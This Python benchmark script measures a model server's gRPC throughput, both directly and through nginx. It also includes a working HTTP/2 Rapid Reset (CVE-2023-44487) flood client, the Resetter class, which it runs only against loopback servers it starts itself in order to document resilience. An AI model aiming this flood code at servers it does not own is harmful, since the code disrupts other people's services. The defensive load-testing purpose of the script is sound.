"""gRPC straight to the workers and through nginx's gRPC front, in one run: load, then rapid resets.

    python scripts/grpc_front.py                                   # about 6 minutes
    python scripts/grpc_front.py --duration 10 --users 1,8 --rounds 1 --resets 50000

One Gunicorn (the built-in default model, its `default` benchmark configuration: 1 worker,
the server's defaults) and one nginx running deploy/nginx/nginx.conf with its ports swapped
for free loopback ones (as the tests run it), both measured in the same run:
1. load: Locust's gRPC user (locustfile.py, LOCUST_PROTOCOL=grpc, one-row Predict calls) in a
   closed loop at each --users count, straight to the workers' gRPC port and through nginx,
   --rounds times, the order swapped each round so that neither path always runs first on a
   machine whose load drifts; req/s, p50, p99, failures, and the CPU of the server and of
   nginx per call;
2. rapid reset (CVE-2023-44487): --resets HEADERS + RST_STREAM pairs written as fast as one
   client can, in bursts of 100, from 127.0.0.2 (an address nginx limits: it leaves 127.0.0.1
   alone), first straight to the workers, then through nginx. A
   connection the peer ends (GOAWAY or close) is opened again until every pair is sent, as an
   attacker would; the table says how many connections that took, what ended them, and the
   CPU the server and nginx spent until the server was quiet again.
It prints Markdown tables for docs/benchmarks.md and docs/reliability.md. Nothing here asserts
a timing: the figures are whatever this machine gives.
"""

from __future__ import annotations

import argparse
import socket
import sys
import tempfile
import time
from pathlib import Path

import h2.config
import h2.connection
import h2.errors
import h2.events
import psutil

sys.path.insert(0, str(Path(__file__).resolve().parent.parent))

from scripts.benchmark.configs import CONFIGS_BY_NAME, REFERENCE, Load  # noqa: E402
from scripts.benchmark.locust import run_locust  # noqa: E402
from scripts.benchmark.server import Server, cpu_seconds  # noqa: E402
from scripts.slow_clients import Nginx  # noqa: E402

BURST = 100
# The attacker's address: all of 127.0.0.0/8 is loopback on Linux, and nginx.conf exempts only 127.0.0.1.
ATTACKER = "127.0.0.2"
PREDICT = "/tensorflow.serving.PredictionService/Predict"


def nginx_processes(front: Nginx) -> list[psutil.Process]:
    master = psutil.Process(front.proc.pid)
    return [master, *master.children(recursive=True)]


# ---------------------------------------------------------------------------- load


def load_row(label: str, target: str, users: int, *, duration_s: int, work_dir: Path, server: Server,
             front: Nginx) -> str:
    server.wait_quiet(within_s=60)
    server_before, nginx_before = server.cpu_seconds(), cpu_seconds(nginx_processes(front))
    stats = run_locust(f"grpc://{target}", Load(f"{users} users", users, (0.0, 0.0)), duration_s=duration_s,
                       prefix=work_dir / f"{label}-{users}".replace(" ", "-"), protocol="grpc")
    server_cpu = server.cpu_seconds() - server_before
    nginx_cpu = cpu_seconds(nginx_processes(front)) - nginx_before
    per_call = (lambda cpu: f"{cpu / stats.requests * 1000:.2f}") if stats.requests else (lambda cpu: "-")
    return (f"| {label} | {users} | {stats.rps:.1f} | {fmt_ms(stats.p50_ms)} | {fmt_ms(stats.p99_ms)} | "
            f"{stats.failures} | {per_call(server_cpu)} | {per_call(nginx_cpu)} | {stats.locust_cpu_share:.0%} |")


def fmt_ms(value: float | None) -> str:
    return "-" if value is None else f"{value:.1f}"


# ---------------------------------------------------------------------------- rapid reset


class Resetter:
    """One attacker: HEADERS then RST_STREAM, over and over, on one connection after another."""

    def __init__(self, port: int) -> None:
        self.port = port
        self.sent = 0
        self.connections = 0
        self.endings: dict[str, int] = {}

    def run(self, total: int) -> None:
        while self.sent < total:
            self._one_connection(total)

    def _one_connection(self, total: int) -> None:
        sock = socket.create_connection(("127.0.0.1", self.port), timeout=10, source_address=(ATTACKER, 0))
        conn = h2.connection.H2Connection(h2.config.H2Configuration(client_side=True, header_encoding="utf-8"))
        conn.initiate_connection()
        self.connections += 1
        ending = "none (every pair sent)"
        try:
            sock.sendall(conn.data_to_send())
            while self.sent < total:
                for _ in range(min(BURST, total - self.sent)):
                    stream = conn.get_next_available_stream_id()
                    conn.send_headers(stream, [(":method", "POST"), (":scheme", "http"), (":path", PREDICT),
                                               (":authority", "x"), ("content-type", "application/grpc"),
                                               ("te", "trailers")])
                    conn.reset_stream(stream, h2.errors.ErrorCodes.CANCEL)
                    self.sent += 1
                sock.sendall(conn.data_to_send())
                if (ended := self._read_available(sock, conn)) is not None:
                    ending = ended
                    break
        except (BrokenPipeError, ConnectionResetError):
            ending = "closed by the peer"
        finally:
            sock.close()
        self.endings[ending] = self.endings.get(ending, 0) + 1

    @staticmethod
    def _read_available(sock: socket.socket, conn: h2.connection.H2Connection) -> str | None:
        """Frames already there, without waiting; how the peer ended the connection, if it did."""
        sock.setblocking(False)
        try:
            while True:
                data = sock.recv(65536)
                if not data:
                    return "closed by the peer"
                for event in conn.receive_data(data):
                    if isinstance(event, h2.events.ConnectionTerminated):
                        return f"GOAWAY {h2.errors.ErrorCodes(event.error_code).name}"
                if out := conn.data_to_send():
                    sock.setblocking(True)
                    sock.sendall(out)
                    sock.setblocking(False)
        except BlockingIOError:
            return None
        finally:
            sock.setblocking(True)


def reset_row(label: str, port: int, resets: int, *, server: Server, front: Nginx) -> str:
    server.wait_quiet(within_s=60)
    server_before, nginx_before = server.cpu_seconds(), cpu_seconds(nginx_processes(front))
    started = time.monotonic()
    attacker = Resetter(port)
    attacker.run(resets)
    sent_s = time.monotonic() - started
    # What the attack left behind (cancellations, upstream connections) is part of its cost.
    server.wait_quiet(within_s=60)
    server_cpu = server.cpu_seconds() - server_before
    nginx_cpu = cpu_seconds(nginx_processes(front)) - nginx_before
    endings = ", ".join(f"{count} × {ending}" for ending, count in sorted(attacker.endings.items()))
    return (f"| {label} | {attacker.sent} | {sent_s:.1f} | {attacker.connections} | {endings} | "
            f"{server_cpu:.2f} | {nginx_cpu:.2f} |")


# ---------------------------------------------------------------------------- the run


def main() -> None:
    parser = argparse.ArgumentParser(description=__doc__, formatter_class=argparse.RawDescriptionHelpFormatter)
    parser.add_argument("--duration", type=int, default=20, help="seconds per load point")
    parser.add_argument("--users", default="1,8", help="closed-loop Locust users, comma-separated")
    parser.add_argument("--rounds", type=int, default=2, help="load rounds, each path once a round")
    parser.add_argument("--resets", type=int, default=50000, help="HEADERS + RST_STREAM pairs per target")
    args = parser.parse_args()
    users = [int(count) for count in args.users.split(",")]
    with tempfile.TemporaryDirectory(prefix="grpc-front-") as temp:
        work_dir = Path(temp)
        for order in range(args.rounds):
            (work_dir / f"round-{order}").mkdir()
        server = Server(CONFIGS_BY_NAME[REFERENCE], model_path=None, log_path=work_dir / "gunicorn.log").start()
        try:
            front = Nginx(work_dir / "nginx", upstream_port=server.port,
                          grpc_upstream_port=int(server.grpc_target.rsplit(":", 1)[1])).start()
            try:
                targets = {"direct": server.grpc_target, "through nginx": front.grpc_target}
                load = ["| path | users | req/s | p50 ms | p99 ms | failures | server CPU ms/call | "
                        "nginx CPU ms/call | Locust CPU |", "|---|---|---|---|---|---|---|---|---|"]
                for count in users:
                    for order in range(args.rounds):
                        paths = list(targets.items())[::-1 if order % 2 else 1]
                        for label, target in paths:
                            load.append(load_row(label, target, count, duration_s=args.duration,
                                                 work_dir=work_dir / f"round-{order}", server=server,
                                                 front=front))
                            print(load[-1], flush=True)
                resets = ["| path | pairs sent | seconds to send | connections | how they ended | "
                          "server CPU s | nginx CPU s |", "|---|---|---|---|---|---|---|"]
                for label, target in targets.items():
                    resets.append(reset_row(label, int(target.rsplit(":", 1)[1]), args.resets,
                                            server=server, front=front))
                    print(resets[-1], flush=True)
            finally:
                front.stop()
        finally:
            server.stop()
    print("\n".join(["", *load, "", *resets]))


if __name__ == "__main__":
    main()
